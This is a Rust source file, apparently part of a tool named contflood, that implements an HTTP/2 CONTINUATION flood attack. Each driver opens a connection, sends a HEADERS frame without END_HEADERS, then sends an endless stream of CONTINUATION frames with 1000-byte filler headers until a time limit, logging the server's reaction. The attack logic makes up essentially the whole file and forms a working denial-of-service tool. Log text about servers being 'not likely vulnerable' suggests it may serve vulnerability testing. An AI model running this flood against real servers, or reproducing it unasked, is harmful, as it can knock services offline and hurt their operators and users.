use crate::config::FloodConfig;
use crate::stats::{new_latency_histogram, FloodStats, StreamIdAllocator};
use contflood_net::{Frame, FrameSink, FrameSource, FrameType, H2Session, HandshakeError, HeaderBlockEncoder};
use contflood_traits::{Dialer, FloodStream};
use std::sync::Arc;
use thiserror::Error;
use tokio::time::{timeout, timeout_at, Instant};
use tracing::{debug, info, warn};

/// Length of the value carried by every CONTINUATION fragment.
pub const FILLER_LEN: usize = 1000;

/// Setup failures. Any of these ends the whole run.
#[derive(Debug, Error)]
pub enum FloodError {
    #[error("connection {driver}: failed to dial {target}: {error:#}")]
    Dial {
        driver: usize,
        target: String,
        error: anyhow::Error,
    },
    #[error("connection {driver}: {source}")]
    Handshake {
        driver: usize,
        #[source]
        source: HandshakeError,
    },
    #[error("only {completed} of {expected} connections reported back")]
    Lost { completed: usize, expected: usize },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LoopOutcome {
    /// The time limit ran out and the header block was closed with END_HEADERS.
    BudgetElapsed,
    /// The server tore the connection down mid header block.
    PeerClosed,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DriverReport {
    pub driver: usize,
    pub stream_id: u32,
    pub continuations: u64,
    pub outcome: LoopOutcome,
}

/// Runs the CONTINUATION flood on a single connection.
pub struct AttackDriver {
    id: usize,
    config: Arc<FloodConfig>,
    stats: Arc<FloodStats>,
    stream_ids: Arc<StreamIdAllocator>,
}

impl AttackDriver {
    pub fn new(
        id: usize,
        config: Arc<FloodConfig>,
        stats: Arc<FloodStats>,
        stream_ids: Arc<StreamIdAllocator>,
    ) -> Self {
        Self {
            id,
            config,
            stats,
            stream_ids,
        }
    }

    pub async fn run(&self, dialer: &dyn Dialer) -> Result<DriverReport, FloodError> {
        let target = &self.config.target;
        let stream = dialer.dial(target).await.map_err(|error| FloodError::Dial {
            driver: self.id,
            target: target.to_string(),
            error,
        })?;
        debug!("connection {} established to {}", self.id, target);

        self.run_on(stream).await
    }

    /// Everything after the dial: handshake, HEADERS, flood, drain.
    pub async fn run_on(&self, stream: FloodStream) -> Result<DriverReport, FloodError> {
        let session = H2Session::handshake(stream)
            .await
            .map_err(|source| FloodError::Handshake {
                driver: self.id,
                source,
            })?;
        let (mut sink, source) = session.split();

        let deadline = Instant::now() + self.config.time_limit;
        let stream_id = self.send_headers(&mut sink, deadline).await;

        let mut reader = tokio::spawn(read_frames(stream_id, source, self.stats.clone()));

        let (continuations, outcome) = self.flood(&mut sink, stream_id, deadline).await;

        // give the server a moment to answer the closed header block
        if timeout(self.config.drain_grace, &mut reader).await.is_err() {
            reader.abort();
        }

        Ok(DriverReport {
            driver: self.id,
            stream_id,
            continuations,
            outcome,
        })
    }

    /// Opens the stream. A failed or stalled write is logged and the flood
    /// proceeds anyway.
    async fn send_headers(&self, sink: &mut FrameSink, deadline: Instant) -> u32 {
        let target = &self.config.target;
        let block = HeaderBlockEncoder::encode([
            (":method", "GET"),
            (":path", target.path.as_str()),
            (":scheme", "https"),
            (":authority", target.authority.as_str()),
        ]);
        let size = block.len();
        info!("Header size: {}", size);

        let stream_id = self.stream_ids.allocate();
        let headers = sink.send(Frame::headers(stream_id, block, false, false));
        match timeout_at(self.write_limit(deadline), headers).await {
            Ok(Ok(())) => {
                self.stats.record_headers();
                info!(
                    "[{}] Sent HEADERS on stream {}, total size = {}",
                    stream_id, stream_id, size
                );
            }
            Ok(Err(e)) => warn!("[{}] Failed to send HEADERS: {}", stream_id, e),
            Err(_) => warn!("[{}] HEADERS write still pending at the time limit", stream_id),
        }

        stream_id
    }

    /// A write may not outlive the budget. Once the budget is spent the
    /// closing frame still gets `drain_grace` to go out.
    fn write_limit(&self, deadline: Instant) -> Instant {
        deadline.max(Instant::now() + self.config.drain_grace)
    }

    async fn flood(
        &self,
        sink: &mut FrameSink,
        stream_id: u32,
        deadline: Instant,
    ) -> (u64, LoopOutcome) {
        let filler = "A".repeat(FILLER_LEN);
        let mut encoder = HeaderBlockEncoder::new();
        let mut latency = new_latency_histogram();
        let mut index: u64 = 0;
        let mut sent: u64 = 0;

        let outcome = loop {
            let end_headers = Instant::now() >= deadline;
            let fragment = encoder
                .field(&format!(":cont-header-#{index}"), &filler)
                .finish();

            let started = Instant::now();
            let write = sink.send(Frame::continuation(stream_id, fragment, end_headers));
            let limit = if end_headers {
                self.write_limit(deadline)
            } else {
                deadline
            };
            let closed = match timeout_at(limit, write).await {
                Ok(Ok(())) => {
                    latency.saturating_record(started.elapsed().as_micros() as u64);
                    self.stats.record_continuation();
                    sent += 1;
                    debug!("[{}] Sent CONTINUATION on stream {}", stream_id, stream_id);
                    end_headers
                }
                Ok(Err(e)) if e.is_peer_closed() => {
                    info!(
                        "[{}] connection closed by the server when sending CONTINUATION frame. Server is not likely vulnerable",
                        stream_id
                    );
                    break LoopOutcome::PeerClosed;
                }
                Ok(Err(e)) => {
                    debug!("[{}] Failed to send CONTINUATION: {}", stream_id, e);
                    false
                }
                Err(_) => {
                    warn!(
                        "[{}] CONTINUATION write still pending at the time limit, server stopped reading",
                        stream_id
                    );
                    false
                }
            };

            if end_headers {
                if closed {
                    info!(
                        "[{}] time limit reached after {} CONTINUATION frames, header block closed",
                        stream_id, sent
                    );
                } else {
                    warn!(
                        "[{}] time limit reached after {} CONTINUATION frames, closing frame not delivered",
                        stream_id, sent
                    );
                }
                break LoopOutcome::BudgetElapsed;
            }
            index += 1;
        };

        self.stats.merge_latency(&latency);
        (sent, outcome)
    }
}

/// Drains the server's frames until EOF. A read error ends the reader.
async fn read_frames(stream_id: u32, mut source: FrameSource, stats: Arc<FloodStats>) {
    while let Some(next) = source.next_frame().await {
        let frame = match next {
            Ok(frame) => frame,
            Err(e) => {
                warn!("[{}] Failed to read frame: {}", stream_id, e);
                return;
            }
        };

        stats.record_received(frame.kind == FrameType::GoAway);
        match frame.kind {
            FrameType::Headers => info!("[{}] received HEADERS frame: {}", stream_id, frame),
            FrameType::GoAway => match frame.goaway() {
                Some(goaway) => warn!("[{}] received GOAWAY frame: {} {}", stream_id, frame, goaway),
                None => warn!("[{}] received GOAWAY frame: {}", stream_id, frame),
            },
            _ => info!("[{}] received frame: {}", stream_id, frame),
        }
    }
    debug!("[{}] server closed the connection", stream_id);
}
